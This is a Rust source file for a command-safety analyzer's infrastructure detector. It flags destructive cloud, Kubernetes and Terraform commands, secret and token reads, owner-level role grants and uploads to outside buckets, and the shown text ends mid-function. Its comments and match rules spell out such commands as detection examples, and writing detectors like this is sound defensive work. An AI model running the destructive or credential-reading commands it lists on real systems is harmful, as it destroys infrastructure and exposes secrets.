//! `shell/infrastructure`
//!
//! ## What it catches
//! - `infra.destroy`: `kubectl delete` (namespaces, `--all`, `-A`: critical), `helm uninstall`,
//!   `terraform|tofu destroy` / `apply -destroy` / `apply -auto-approve` / `state rm`,
//!   `pulumi destroy` / `up --yes`, `aws … delete-*` / `s3 rm --recursive` / `s3 rb`, `gcloud … delete`,
//!   `az … delete`, `docker system|volume prune`, `docker rm -f`, `docker compose down -v`,
//!   `vagrant destroy`, `virsh destroy|undefine`; code-host CLIs deleting a repository
//!   (`gh repo delete`, `glab repo delete`, `gh api -X DELETE repos/o/r`).
//! - `system.disrupt`: `kubectl drain|cordon`, `kubectl scale --replicas=0`.
//! - `credential.read`: `kubectl get secret -o yaml|json`, `aws secretsmanager get-secret-value`,
//!   `aws ssm get-parameter --with-decryption`, `gcloud secrets versions access`,
//!   `gcloud auth print-access-token`, `az keyvault secret show`, `az account get-access-token`,
//!   `gh auth token`, `glab auth token`.
//! - `privilege.escalate`: cloud role grants of owner/admin roles, `AdministratorAccess` policies,
//!   privileged containers and host mounts (`docker run --privileged`, `-v /:/host`, `-v /etc:…`).
//! - `docker exec`/`kubectl exec … --` run their command through the analyzer.
//!
//! ## Why it matters
//! One command removes a cluster, a bucket or a database with no undo.
//!
//! ## Blocks
//! ```sh
//! kubectl delete ns logistics --grace-period=0 --force
//! aws rds delete-db-cluster --db-cluster-identifier x --skip-final-snapshot
//! terraform destroy -auto-approve
//! ```
//!
//! ## Passes
//! ```sh
//! kubectl get deploy -n prod
//! terraform plan -var-file=prod.tfvars
//! helm status api -n prod
//! docker ps
//! ```
//!
//! ## Known gaps
//! Cloud CLIs have thousands of operations; only deletes, secret reads and owner-level grants are
//! known.
//!
//! ## Intents
//! `infra.destroy`, `system.disrupt`, `credential.read`, `privilege.escalate`

use crate::analyze::Detector;
use crate::fact::{Facts, Severity, Target};
use crate::intent::Intent;

use super::super::unwrap::shell_quote;
use super::super::{nested, Flow, Invocation, ShellState};

pub(crate) const DETECTOR: Detector = Detector {
    id: "shell/infrastructure",
    intents: &[
        Intent::InfraDestroy,
        Intent::SystemDisrupt,
        Intent::CredentialRead,
        Intent::PrivilegeEscalate,
        Intent::PrivilegeGrant,
        Intent::DataExport,
        Intent::ExecRemoteCode,
    ],
    triggers: &[
        "kubectl",
        "oc",
        "helm",
        "terraform",
        "tofu",
        "terragrunt",
        "pulumi",
        "aws",
        "gcloud",
        "gsutil",
        "az",
        "docker",
        "podman",
        "nerdctl",
        "docker-compose",
        "vagrant",
        "virsh",
        "gh",
        "glab",
        "vault",
        "ansible",
        "etcdctl",
        "kafka-topics",
        "kafka-topics.sh",
        "cdk",
        "eksctl",
        "doctl",
        "velero",
        "heroku",
        "fly",
        "flyctl",
        "vercel",
        "netlify",
        "hcloud",
        "linode-cli",
        "scw",
        "oci",
        "openstack",
        "nomad",
        "ibmcloud",
    ],
};

pub(crate) fn check(inv: Invocation<'_>, name: &str, st: &mut ShellState<'_>, facts: &mut Facts) -> Flow {
    let values: Vec<String> = inv.args.iter().map(|a| a.value.clone()).collect();
    let v: Vec<&str> = values.iter().map(String::as_str).collect();
    let has = |f: &str| v.iter().any(|a| *a == f || a.starts_with(&format!("{f}=")));
    let fact = |facts: &mut Facts,
                intent: Intent,
                severity: Severity,
                kind: &'static str,
                target: &str,
                message: String| {
        facts.push(inv.fact(intent, severity, DETECTOR.id, Some(Target { kind, name: target.to_owned() }), message));
    };
    // A cloud or code-host CLI printing a secret or token.
    let prints_secret =
        |facts: &mut Facts, message: String| fact(facts, Intent::CredentialRead, Severity::High, "cloud", "", message);
    let line = v.join(" ");
    // Dry runs change nothing: `kubectl delete … --dry-run=client`, `helm uninstall --dry-run`,
    // `aws s3 rm --dryrun`, `terraform plan`.
    if v.iter().any(|a| a.starts_with("--dry-run") || *a == "--dryrun" || *a == "--what-if") {
        return Flow::Unknown;
    }
    match name {
        "kubectl" | "oc" => {
            let with_value = [
                "-n",
                "--namespace",
                "--context",
                "--cluster",
                "--user",
                "--kubeconfig",
                "-s",
                "--server",
                "--token",
                "-o",
                "--output",
                "-l",
                "--selector",
                "-f",
                "--filename",
                "-c",
                "--container",
            ];
            let ops = operands(&v[1..], &with_value);
            match ops.first().copied() {
                Some("delete") => {
                    let kind = ops.get(1).copied().unwrap_or("");
                    let all = has("--all") || has("-A") || has("--all-namespaces");
                    let (severity, what) = if ["ns", "namespace", "namespaces"].contains(&kind) {
                        (
                            Severity::Critical,
                            format!(
                                "deletes the namespace `{}` and everything in it",
                                ops.get(2).copied().unwrap_or("")
                            ),
                        )
                    } else if all {
                        (Severity::Critical, format!("deletes every `{kind}`"))
                    } else if ["po", "pod", "pods", "job", "jobs"].contains(&kind) || kind.starts_with("pod/") {
                        (Severity::Medium, format!("deletes `{}`", ops[1..].join(" ")))
                    } else {
                        (Severity::High, format!("deletes `{}`", ops[1..].join(" ")))
                    };
                    fact(facts, Intent::InfraDestroy, severity, "cluster", kind, format!("kubectl {what}"));
                }
                Some("drain") | Some("cordon") => {
                    let node = ops.get(1).copied().unwrap_or("");
                    fact(
                        facts,
                        Intent::SystemDisrupt,
                        Severity::High,
                        "server",
                        node,
                        format!("kubectl {} takes node `{node}` out of service", ops[0]),
                    );
                }
                Some("scale")
                    if v.contains(&"--replicas=0") || v.windows(2).any(|w| w[0] == "--replicas" && w[1] == "0") =>
                {
                    fact(
                        facts,
                        Intent::SystemDisrupt,
                        Severity::High,
                        "cluster",
                        ops.get(1).copied().unwrap_or(""),
                        "kubectl scale --replicas=0 stops every replica".to_owned(),
                    );
                }
                Some("get") if ops.get(1).is_some_and(|k| k.starts_with("secret")) && prints_data(&v) => {
                    fact(
                        facts,
                        Intent::CredentialRead,
                        Severity::High,
                        "file",
                        ops.get(2).copied().unwrap_or(""),
                        "kubectl get secret with -o prints the secret's data".to_owned(),
                    );
                    return Flow::Secret("kubernetes secret".to_owned());
                }
                // Manifests given on standard input (`-f -`, a here-document) are read.
                Some("apply" | "create" | "replace")
                    if v.windows(2).any(|w| w == ["-f", "-"]) || v.contains(&"--filename=-") =>
                {
                    if let Flow::Text(manifest) = &inv.stdin {
                        for why in super::manifest::grants(manifest).unwrap_or_default() {
                            fact(
                                facts,
                                Intent::PrivilegeEscalate,
                                Severity::Critical,
                                "cluster",
                                "",
                                format!("the manifest applied: {why}"),
                            );
                        }
                    }
                }
                Some("create") if ops.get(1).is_some_and(|k| k.ends_with("rolebinding")) => {
                    let role = v
                        .iter()
                        .find_map(|a| a.strip_prefix("--clusterrole=").or_else(|| a.strip_prefix("--role=")))
                        .or_else(|| v.windows(2).find(|w| w[0] == "--clusterrole" || w[0] == "--role").map(|w| w[1]));
                    if let Some(role @ ("cluster-admin" | "admin" | "edit")) = role {
                        let severity = if role == "cluster-admin" { Severity::Critical } else { Severity::High };
                        fact(
                            facts,
                            Intent::PrivilegeEscalate,
                            severity,
                            "role",
                            role,
                            format!("binds `{role}` to a subject: it can change anything the role covers"),
                        );
                    }
                }
                // `kubectl cp pod:/var/run/secrets/… ./token`: a credential copied out.
                Some("cp") => {
                    let from = ops.get(1).copied().unwrap_or("");
                    if let Some((_, path)) = from.split_once(':') {
                        if path.contains("/secrets/") || super::credentials::secret_kind(path).is_some() {
                            prints_secret(
                                facts,
                                format!("kubectl cp copies `{path}`, a credential, out of the container"),
                            );
                        }
                    }
                }
                Some("exec") => {
                    if let Some(dd) = v.iter().position(|a| *a == "--") {
                        let line: Vec<String> = inv.args[dd + 1..].iter().map(|a| shell_quote(&a.value)).collect();
                        return nested(&line.join(" "), inv.report, st, facts);
                    }
                }
                _ => {}
            }
        }
        "helm" => {
            let ops = operands(&v[1..], &["-n", "--namespace", "--kube-context", "--kubeconfig"]);
            // A chart is code the cluster runs: from a bare IP, a catcher or plain HTTP, it is code
            // from nowhere (`helm install x https://203.0.113.44/charts/x.tgz`).
            if matches!(ops.first().copied(), Some("install" | "upgrade" | "template")) {
                let repo = value_of(&v, "--repo");
                for source in ops.iter().skip(1).copied().chain(repo).filter(|o| o.contains("://")) {
                    let host = crate::analyze::destination::host_of(source);
                    if let Some(class) = super::network::code_from_nowhere(source, &host, &st.policy.destinations) {
                        fact(
                            facts,
                            Intent::ExecRemoteCode,
                            Severity::High,
                            "location",
                            source,
                            format!("helm deploys a chart from `{source}`, {}", class.describe(&host)),
                        );
                    }
                }
            }
            if let Some(verb @ ("uninstall" | "delete" | "del" | "un")) = ops.first().copied() {
                let release = ops.get(1).copied().unwrap_or("");
                fact(
                    facts,
                    Intent::InfraDestroy,
                    Severity::High,
                    "cluster",
                    release,
                    format!("helm {verb} removes the release `{release}` and its resources"),
                );
            }
        }
        "terraform" | "tofu" | "terragrunt" => {
            let mut ops = operands(&v[1..], &["-chdir"]);
            // terragrunt run-all destroy, terragrunt run -- destroy
            if ops.first().is_some_and(|o| *o == "run-all" || *o == "run") {
                ops.remove(0);
            }
            let auto = has("-auto-approve") || has("--auto-approve");
            match ops.first().copied() {
                Some("destroy") => fact(
                    facts,
                    Intent::InfraDestroy,
                    Severity::Critical,
                    "stack",
                    "",
                    format!("`{name} destroy` deletes every resource the configuration manages"),
                ),
                Some("apply") if has("-destroy") => fact(
                    facts,
                    Intent::InfraDestroy,
                    Severity::Critical,
                    "stack",
                    "",
                    format!("`{name} apply -destroy` deletes every managed resource"),
                ),
                // A saved plan applies without asking; one saved by `plan -destroy` (and named
                // for it) deletes what it lists.
                Some("apply") if ops.get(1).is_some_and(|p| p.to_ascii_lowercase().contains("destroy")) => fact(
                    facts,
                    Intent::InfraDestroy,
                    Severity::Critical,
                    "stack",
                    "",
                    format!("`{name} apply {}` applies a saved destroy plan without asking", ops[1]),
                ),
                Some("apply") if auto => fact(
                    facts,
                    Intent::InfraDestroy,
                    Severity::High,
                    "stack",
                    "",
                    format!("`{name} apply -auto-approve` changes infrastructure without a reviewed plan"),
                ),
                Some("state") if ops.get(1).is_some_and(|s| *s == "rm" || *s == "replace-provider") => fact(
                    facts,
                    Intent::InfraDestroy,
                    Severity::High,
                    "stack",
                    "",
                    format!("`{name} state {}` makes Terraform forget resources", ops[1]),
                ),
                Some("workspace") if ops.get(1) == Some(&"delete") => fact(
                    facts,
                    Intent::InfraDestroy,
                    Severity::High,
                    "stack",
                    "",
                    "deletes a Terraform workspace and its state".to_owned(),
                ),
                _ => {}
            }
        }
        "pulumi" => {
            let ops = operands(&v[1..], &["-s", "--stack", "-C", "--cwd"]);
            match ops.first().copied() {
                Some("destroy") => fact(
                    facts,
                    Intent::InfraDestroy,
                    Severity::Critical,
                    "stack",
                    "",
                    "`pulumi destroy` deletes every resource of the stack".to_owned(),
                ),
                Some("up" | "update") if has("--yes") || has("-y") => fact(
                    facts,
                    Intent::InfraDestroy,
                    Severity::High,
                    "stack",
                    "",
                    "`pulumi up --yes` changes infrastructure without a preview".to_owned(),
                ),
                Some("stack") if ops.get(1) == Some(&"rm") => fact(
                    facts,
                    Intent::InfraDestroy,
                    Severity::High,
                    "stack",
                    "",
                    "`pulumi stack rm` deletes a stack".to_owned(),
                ),
                _ => {}
            }
        }
        "aws" => aws(&inv, &v, st, facts),
        "gcloud" | "gsutil" => {
            // `gsutil cp|mv|rsync SRC gs://DEST`, `gcloud storage cp SRC gs://DEST`.
            let copies = v.iter().any(|a| matches!(*a, "cp" | "mv" | "rsync"))
                && (name == "gsutil" || v.get(1) == Some(&"storage"));
            // (`-` is standard input: `pg_dump … | gsutil cp - gs://…`.)
            let paths: Vec<&str> = v.iter().skip(1).copied().filter(|a| !a.starts_with('-') || *a == "-").collect();
            if let (true, Some([.., source, dest])) = (copies, paths.get(1..)) {
                bucket_copy(&inv, source, dest, "gs://", st, facts);
            }
            if name == "gsutil"
                && (v.contains(&"rm") || v.contains(&"rb"))
                && (has("-r")
                    || has("-R")
                    || v.contains(&"rb")
                    || v.iter().any(|a| a.starts_with("-") && a.contains('r')))
            {
                fact(
                    facts,
                    Intent::InfraDestroy,
                    Severity::High,
                    "location",
                    v.last().copied().unwrap_or(""),
                    "gsutil removes a bucket or its objects".to_owned(),
                );
            } else if v.contains(&"delete") {
                let severity = if v.get(1) == Some(&"projects") { Severity::Critical } else { Severity::High };
                fact(
                    facts,
                    Intent::InfraDestroy,
                    severity,
                    "cloud",
                    "",
                    format!(
                        "`{}` deletes cloud resources{}",
                        short(&line),
                        if has("--quiet") || has("-q") { " without asking" } else { "" }
                    ),
                );
            } else if line.contains("secrets versions access")
                || line.contains("auth print-access-token")
                || line.contains("auth print-identity-token")
            {
                prints_secret(facts, format!("`{}` prints a secret or token", short(&line)));
                return Flow::Secret("cloud credentials".to_owned());
            } else if line.contains("add-iam-policy-binding")
                && ["roles/owner", "roles/editor", "roles/iam.securityAdmin", "roles/resourcemanager.projectIamAdmin"]
                    .iter()
                    .any(|r| line.contains(r))
            {
                fact(
                    facts,
                    Intent::PrivilegeEscalate,
                    Severity::Critical,
                    "role",
                    "",
                    "grants an owner-level role on a cloud project".to_owned(),
                );
            }
        }
        "az" => {
            if v.contains(&"delete") {
                let severity = if v.get(1) == Some(&"group") { Severity::Critical } else { Severity::High };
                fact(
                    facts,
                    Intent::InfraDestroy,
                    severity,
                    "cloud",
                    "",
                    format!("`{}` deletes Azure resources", short(&line)),
                );
            } else if line.contains("role assignment create")
                && ["Owner", "Contributor", "User Access Administrator"].iter().any(|r| line.contains(r))
            {
                let who = value_of(&v, "--assignee").unwrap_or("");
                fact(
                    facts,
                    Intent::PrivilegeEscalate,
                    Severity::Critical,
                    "role",
                    who,
                    format!("grants an owner-level Azure role to `{who}`"),
                );
            } else if line.contains("keyvault secret show") || line.contains("account get-access-token") {
                fact(
                    facts,
                    Intent::CredentialRead,
                    Severity::High,
                    "cloud",
                    "",
                    format!("`{}` prints a secret or token", short(&line)),
                );
                return Flow::Secret("cloud credentials".to_owned());
            }
        }
        "docker" | "podman" | "nerdctl" | "docker-compose" => return docker(inv, name, st, facts),
        // HashiCorp Vault: `vault kv get`, `vault read` print a secret's value (`kv list`, `kv
        // metadata` print names).
        "vault" => {
            let ops = operands(&v[1..], &["-address", "-namespace", "-format", "-field", "-mount", "-version"]);
            let reads = match ops.as_slice() {
                ["kv", "get", ..] | ["read", ..] => true,
                ["kv", sub, ..] => *sub == "get",
                _ => false,
            };
            if reads {
                let path = ops.last().copied().unwrap_or("");
                prints_secret(
                    facts,
                    format!("`vault {}` prints the secret at `{path}`", ops[..ops.len().min(2)].join(" ")),
                );
                return Flow::Secret(format!("the Vault secret `{path}`"));
            }
        }
        "vagrant" if v.get(1) == Some(&"destroy") => fact(
            facts,
            Intent::InfraDestroy,
            Severity::High,
            "server",
            "",
            "vagrant destroy deletes the virtual machine".to_owned(),
        ),
        "gh" | "glab" => {
            let ops = operands(&v[1..], &["-R", "--repo", "-X", "--method", "-H", "--header", "--hostname"]);
            match (ops.first().copied(), ops.get(1).copied()) {
                (Some("repo"), Some("delete")) => {
                    let repo = ops.get(2).copied().unwrap_or("the current repository");
                    fact(
                        facts,
                        Intent::InfraDestroy,
                        Severity::High,
                        "repository",
                        repo,
                        format!("{name} repo delete deletes `{repo}` with its history, issues and releases"),
                    );
                    // The repository's history goes with it: the gravest history rewrite.
                    facts.push(inv.fact(
                        Intent::VcsHistoryRewrite,
                        Severity::High,
                        super::git::DETECTOR.id,
                        Some(Target { kind: "repository", name: repo.to_owned() }),
                        format!("{name} repo delete destroys the history of `{repo}`"),
                    ));
                }
                (Some("repo"), Some("edit"))
                    if line.contains("--visibility public") || line.contains("--visibility=public") =>
                {
                    let repo = ops.get(2).copied().unwrap_or("the current repository");
                    fact(
                        facts,
                        Intent::DataExport,
                        Severity::High,
                        "repository",
                        repo,
                        format!("{name} repo edit makes `{repo}` public: its code and history are exposed"),
                    );
                }
                (Some("api"), Some(endpoint)) => {
                    let glued = v.iter().find_map(|a| a.strip_prefix("-X").filter(|m| !m.is_empty()));
                    let method = value_of(&v, "-X").or_else(|| value_of(&v, "--method")).or(glued).unwrap_or("GET");
                    // `gh api -X PATCH repos/o/r/git/refs/heads/main -F force=true`: a force push.
                    let forced = v
                        .windows(2)
                        .any(|w| matches!(w[0], "-F" | "-f" | "--field" | "--raw-field") && w[1] == "force=true");
                    if forced && endpoint.contains("git/refs/heads/") && !method.eq_ignore_ascii_case("GET") {
                        let branch = endpoint.rsplit("refs/heads/").next().unwrap_or("");
                        facts.push(inv.fact(
                            Intent::VcsHistoryRewrite,
                            Severity::High,
                            super::git::DETECTOR.id,
                            Some(Target { kind: "location", name: branch.to_owned() }),
                            format!("force-moves the branch `{branch}` through the API, rewriting its history"),
                        ));
                    }
                    let path: Vec<&str> = endpoint.trim_matches('/').split('/').collect();
                    let repository = matches!(path.as_slice(), ["repos" | "projects", _, _] | ["projects", _]);
                    if method.eq_ignore_ascii_case("DELETE") && repository {
                        fact(
                            facts,
                            Intent::InfraDestroy,
                            Severity::High,
                            "repository",
                            endpoint,
                            format!("{name} api DELETE `{endpoint}` deletes a repository"),
                        );
                    }
                }
                // A gist (or GitLab snippet) is published on the code host, outside the
                // organisation's repositories: credential files and dumps put there leak.
                (Some("gist" | "snippet"), Some("create" | "edit")) => {
                    let files =
                        operands(&v[3..], &["-d", "--desc", "--description", "-f", "--filename", "-t", "--title"]);
                    for file in files {
                        let flow = if file == "-" { inv.stdin.clone() } else { super::credentials::flow_of_file(file) };
                        if matches!(flow, Flow::Secret(_) | Flow::Data(_)) {
                            let host = if name == "gh" { "gist.github.com" } else { "gitlab.com" };
                            super::network::send_flow(inv.report, host, flow, st.policy, facts);
                        }
                    }
                }
                (Some("auth"), Some("token")) => {
                    prints_secret(facts, format!("{name} auth token prints the code host's access token"));
                    return Flow::Secret("code host token".to_owned());
                }
                _ => {}
            }
        }
        // Ansible ad-hoc: the module's arguments run on every host of the pattern.
        "ansible" => {
            let module = value_of(&v, "-m").or_else(|| value_of(&v, "--module-name")).unwrap_or("command");
            let module = module.rsplit('.').next().unwrap_or(module);
            let args = value_of(&v, "-a").or_else(|| value_of(&v, "--args")).unwrap_or("");
            match module {
                "shell" | "command" | "raw" => {
                    let _ = nested(args, inv.report, st, facts);
                }
                "file" if args.split_whitespace().any(|a| a == "state=absent") => {
                    if let Some(path) = args.split_whitespace().find_map(|a| {
                        a.strip_prefix("path=").or_else(|| a.strip_prefix("dest=")).or_else(|| a.strip_prefix("name="))
                    }) {
                        let _ = nested(&format!("rm -rf {}", shell_quote(path)), inv.report, st, facts);
                    }
                }
                _ => {}
            }
        }
        // etcd: `del "" --from-key` or `del --prefix ""` deletes every key (a cluster's whole state).
        "etcdctl" => {
            let ops = operands(&v[1..], &["--endpoints", "--cacert", "--cert", "--key", "--user", "--password"]);
            let everything = |k: Option<&&str>| k.is_none_or(|k| k.is_empty() || *k == "/");
            if ops.first() == Some(&"del") && (has("--from-key") || has("--prefix")) && everything(ops.get(1)) {
                fact(
                    facts,
                    Intent::InfraDestroy,
                    Severity::Critical,
                    "cluster",
                    "",
                    "etcdctl deletes every key in etcd".to_owned(),
                );
            }
        }
        "kafka-topics" | "kafka-topics.sh" if has("--delete") => {
            let topic = value_of(&v, "--topic").unwrap_or("");
            fact(
                facts,
                Intent::InfraDestroy,
                Severity::High,
                "location",
                topic,
                format!("deletes the Kafka topic `{topic}` with its messages"),
            );
        }
        // Cluster, platform and backup CLIs: a delete or destroy subcommand removes what it names
        // (`eksctl delete cluster`, `doctl kubernetes cluster delete`, `velero backup delete
        // --all`, `heroku apps:destroy`, `fly apps destroy`).
        "eksctl" | "doctl" | "velero" | "heroku" | "fly" | "flyctl" | "vercel" | "netlify" | "hcloud"
        | "linode-cli" | "scw" | "oci" | "openstack" | "nomad" | "ibmcloud" => {
            let ops = operands(
                &v[1..],
                &["--name", "-n", "--region", "--app", "-a", "--namespace", "--context", "--profile"],
            );
            let destroys = ops.iter().any(|o| {
                let verb = o.rsplit(':').next().unwrap_or(o);
                matches!(verb, "delete" | "destroy" | "remove" | "rm" | "terminate" | "purge")
            });
            if destroys {
                let all = has("--all") || has("-A");
                let whole = ops.iter().any(|o| {
                    matches!(
                        *o,
                        "cluster"
                            | "clusters"
                            | "project"
                            | "projects"
                            | "app"
                            | "apps"
                            | "apps:destroy"
                            | "database"
                            | "db"
                            | "job"
                    )
                });
                let severity = if all || whole { Severity::Critical } else { Severity::High };
                let target = value_of(&v, "--name")
                    .or_else(|| value_of(&v, "--app"))
                    .or_else(|| ops.last().copied())
                    .unwrap_or("");
                fact(
                    facts,
                    Intent::InfraDestroy,
                    severity,
                    "cloud",
                    target,
                    format!("`{}` deletes what it names", short(&line)),
                );
            }
        }
        "cdk" if v.get(1) == Some(&"destroy") => fact(
            facts,
            Intent::InfraDestroy,
            Severity::Critical,
            "stack",
            v.get(2).copied().unwrap_or(""),
            "cdk destroy deletes every resource of the stack".to_owned(),
        ),
        "virsh" if v.get(1).is_some_and(|s| *s == "destroy" || *s == "undefine") => fact(
            facts,
            Intent::InfraDestroy,
            Severity::High,
            "server",
            v.get(2).copied().unwrap_or(""),
            format!("virsh {} stops or deletes a virtual machine", v[1]),
        ),
        _ => {}
    }
    Flow::Unknown
}

/// Whether `kubectl get` prints objects in full (`-o yaml|json|jsonpath=…`), not just names.
fn prints_data(v: &[&str]) -> bool {
    let format = v.iter().enumerate().find_map(|(i, a)| match *a {
        "-o" | "--output" => v.get(i + 1).copied(),
        _ => a.strip_prefix("--output=").or_else(|| a.strip_prefix("-o").filter(|f| !f.is_empty())),
    });
    // A JSONPath or template that names only metadata (`{.metadata.annotations}`) prints no value.
    let names_only_metadata = |f: &str| {
        let template = f.split_once('=').map_or("", |(_, t)| t);
        (f.starts_with("jsonpath") || f.starts_with("go-template") || f.starts_with("custom-columns"))
            && !template.is_empty()
            && !template.contains(".data")
            && !template.contains("stringData")
            && !template.contains("{.}")
            && !template.contains("{@}")
    };
    format.is_some_and(|f| !f.starts_with("name") && f != "wide" && !names_only_metadata(f))
}

fn short(line: &str) -> String {
    line.chars().take(80).collect()
}

/// Operands of a command line, skipping options (and the values of `with_value` options).
pub(crate) fn operands<'a>(args: &[&'a str], with_value: &[&str]) -> Vec<&'a str> {
    let mut out = Vec::new();
    let mut i = 0;
    while i < args.len() {
        let a = args[i];
        if a == "--" {
            break;
        }
        // A lone `-` is an operand: standard input or output.
        if a.starts_with('-') && a != "-" {
            if with_value.contains(&a) {
                i += 1;
            }
        } else {
            out.push(a);
        }
        i += 1;
    }
    out
}

/// The value of `--flag value` or `--flag=value`.
pub(crate) fn value_of<'a>(args: &[&'a str], flag: &str) -> Option<&'a str> {
    args.iter().enumerate().find_map(|(i, a)| {
        if *a == flag {
            args.get(i + 1).copied()
        } else {
            a.strip_prefix(flag).and_then(|r| r.strip_prefix('='))
        }
    })
}

/// A copy into a bucket the policy does not list as the organisation's (`organization.buckets`)
/// sends what it copies out: judged as an upload to an unknown host — the objects of one of the
/// organisation's buckets are its data, a local path is judged by what it holds.
fn bucket_copy(inv: &Invocation<'_>, source: &str, dest: &str, scheme: &str, st: &ShellState<'_>, facts: &mut Facts) {
    let destinations = &st.policy.destinations;
    let bucket =
        |uri: &str| uri.strip_prefix(scheme).map(|rest| rest.split('/').next().unwrap_or("").to_ascii_lowercase());
    let ours = |b: &str| destinations.org_buckets.iter().any(|g| g.matches(b));
    // Whether the destination is outside, `bucket_upload` judges.
    let flow = match bucket(source) {
        Some(from) if ours(&from) => Flow::Data(format!("objects of the organisation's bucket `{source}`")),
        Some(_) => return,
        // `pg_dump … | aws s3 cp - s3://…`: what arrives on standard input.
        None if source == "-" => inv.stdin.clone(),
        None => super::network::flow_of_path(source),
    };
    bucket_upload(inv, dest, scheme, flow, st, facts);
}

/// `flow` written into the bucket of `dest` (a `scheme` URI): an upload to an unknown host when
/// the policy names the organisation's buckets and this is not one of them.
pub(crate) fn bucket_upload(
    inv: &Invocation<'_>,
    dest: &str,
    scheme: &str,
    flow: Flow,
    st: &ShellState<'_>,
    facts: &mut Facts,
) {
    let destinations = &st.policy.destinations;
    let Some(to) = dest.strip_prefix(scheme).map(|rest| rest.split('/').next().unwrap_or("").to_ascii_lowercase())
    else {
        return;
    };
    if destinations.org_buckets.is_empty() || to.is_empty() || destinations.org_buckets.iter().any(|g| g.matches(&to)) {
        return;
    }
    let host = format!("{to}.{}", if scheme == "gs://" { "storage.googleapis.com" } else { "s3.amazonaws.com" });
    super::network::send_flow(inv.report, &host, flow, st.policy, facts);
}

/// Ends of AWS operations that act on records inside a resource, not on the resource.
const RECORD_SUFFIXES: &[&str] = &[
    "-object",
    "-objects",
    "-item",
    "-message",
    "-message-batch",
    "-record",
    "-records",
    "-tags",
    "-tagging",
    "-attributes",
    "-attribute",
];

/// An S3 policy, ACL or grant that opens a bucket to everyone: a statement allowing a `"*"`
/// principal in, a public canned ACL, the AllUsers group.
fn opens_to_everyone(arg: &str) -> bool {
    let everyone = |p: &serde_json::Value| match p {
        serde_json::Value::String(s) => s == "*",
        serde_json::Value::Object(m) => {
            m.values().any(|v| v == "*" || v.as_array().is_some_and(|a| a.iter().any(|x| x == "*")))
        }
        _ => false,
    };
    let allows_everyone = |statement: &serde_json::Value| {
        statement.get("Effect").and_then(serde_json::Value::as_str) == Some("Allow")
            && statement.get("Principal").is_some_and(everyone)
    };
    if let Ok(policy) = serde_json::from_str::<serde_json::Value>(arg) {
        return match policy.get("Statement") {
            Some(serde_json::Value::Array(statements)) => statements.iter().any(allows_everyone),
            Some(statement) => allows_everyone(statement),
            None => false,
        };
    }
    matches!(arg, "public-read" | "public-read-write") || arg.contains("acs.amazonaws.com/groups/global/AllUsers")
}

fn aws(inv: &Invocation<'_>, v: &[&str], st: &mut ShellState<'_>, facts: &mut Facts) {
    let ops = operands(&v[1..], &["--region", "--profile", "--output", "--endpoint-url", "--query"]);
    let (Some(service), Some(op)) = (ops.first().copied(), ops.get(1).copied()) else { return };
    let has = |f: &str| v.contains(&f);
    let push = |facts: &mut Facts, intent: Intent, severity: Severity, target: &str, message: String| {
        facts.push(inv.fact(
            intent,
            severity,
            DETECTOR.id,
            Some(Target { kind: "cloud", name: target.to_owned() }),
            message,
        ));
    };
    match (service, op) {
        // A lifecycle rule that expires every object (an empty filter or prefix) empties the bucket.
        ("s3api", "put-bucket-lifecycle-configuration" | "put-bucket-lifecycle") => {
            let config = value_of(v, "--lifecycle-configuration").unwrap_or("");
            let expires_all = serde_json::from_str::<serde_json::Value>(config).is_ok_and(|c| {
                c.get("Rules").and_then(serde_json::Value::as_array).is_some_and(|rules| {
                    rules.iter().any(|r| {
                        let enabled = r.get("Status").and_then(serde_json::Value::as_str) == Some("Enabled");
                        let everything =
                            r.get("Filter").is_none_or(|f| {
                                f.as_object().is_some_and(|o| o.is_empty())
                                    || f.get("Prefix").and_then(serde_json::Value::as_str) == Some("")
                            }) && r.get("Prefix").and_then(serde_json::Value::as_str).is_none_or(str::is_empty);
                        enabled && everything && r.get("Expiration").is_some()
                    })
                })
            });
            if expires_all {
                let bucket = value_of(v, "--bucket").unwrap_or("");
                push(
                    facts,
                    Intent::InfraDestroy,
                    Severity::High,
                    bucket,
                    format!("a lifecycle rule with no filter expires every object in `{bucket}`"),
                );
            }
        }
        // `aws ec2 stop-instances`, `aws rds stop-db-cluster`: production capacity switched off.
        (_, op) if op.starts_with("stop-") || op == "stop" => {
            push(
                facts,
                Intent::SystemDisrupt,
                Severity::High,
                op,
                format!("`aws {service} {op}` stops running resources"),
            );
        }
        // `aws ssm send-command --document-name AWS-RunShellScript --parameters commands=[…]`:
        // the commands run on every targeted instance.
        // (`aws__ssm_send_command` arrives as `send`: `command` is a word of running.)
        ("ssm", "send-command" | "send") => {
            // (A tool's `Parameters: {commands: […]}` arrives as `--commands '[…]'`.)
            let parameters = value_of(v, "--parameters")
                .map(str::to_owned)
                .or_else(|| value_of(v, "--commands").map(|c| format!("{{\"commands\":{c}}}")))
                .unwrap_or_default();
            let parameters = parameters.as_str();
            let commands: Vec<String> = match serde_json::from_str::<serde_json::Value>(parameters) {
                Ok(p) => p
                    .get("commands")
                    .or_else(|| p.get("Commands"))
                    .and_then(serde_json::Value::as_array)
                    .map(|c| c.iter().filter_map(serde_json::Value::as_str).map(str::to_owned).collect()),
                Err(_) => parameters.strip_prefix("commands=").map(|rest| {
                    serde_json::from_str::<Vec<String>>(rest)
                        .unwrap_or_else(|_| vec![rest.trim_matches(['[', ']', '"']).to_owned()])
                }),
            }
            .unwrap_or_default();
            for command in commands.iter().take(8) {
                let _ = nested(command, inv.report, st, facts);
            }
        }
        ("s3", "rm") if has("--recursive") => {
            let target = ops.get(2).copied().unwrap_or("");
            let bucket_root = target.trim_start_matches("s3://").trim_end_matches('/').split('/').count() <= 1;
            let severity = if bucket_root { Severity::Critical } else { Severity::High };
            push(
                facts,
                Intent::InfraDestroy,
                severity,
                target,
                format!("`aws s3 rm --recursive` deletes every object under `{target}`"),
            );
        }
        ("s3", "rb") => {
            let target = ops.get(2).copied().unwrap_or("");
            let severity = if has("--force") { Severity::Critical } else { Severity::High };
            push(facts, Intent::InfraDestroy, severity, target, format!("`aws s3 rb` deletes the bucket `{target}`"));
        }
        ("s3", "sync") if has("--delete") => {
            push(
                facts,
                Intent::InfraDestroy,
                Severity::Medium,
                ops.last().copied().unwrap_or(""),
                "`aws s3 sync --delete` deletes objects missing from the source".to_owned(),
            );
        }
        ("s3", "cp" | "mv" | "sync") => {
            if let Some([.., source, dest]) = ops.get(2..) {
                bucket_copy(inv, source, dest, "s3://", st, facts);
            }
        }
        // The API form of a copy: `--copy-source bucket/key --bucket b --key k`.
        ("s3api", "copy-object" | "upload-part-copy") => {
            if let (Some(source), Some(bucket)) = (value_of(v, "--copy-source"), value_of(v, "--bucket")) {
                let key = value_of(v, "--key").unwrap_or("");
